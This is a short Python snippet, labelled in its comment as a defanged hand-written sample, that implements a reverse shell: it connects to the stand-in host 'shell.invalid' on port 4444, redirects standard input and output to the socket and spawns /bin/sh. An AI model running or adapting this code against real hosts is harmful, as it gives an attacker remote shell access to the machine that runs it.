# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import os, pty, socket

s = socket.socket()
s.connect(("shell.invalid", 4444))
[os.dup2(s.fileno(), n) for n in (0, 1, 2)]
pty.spawn("/bin/sh")
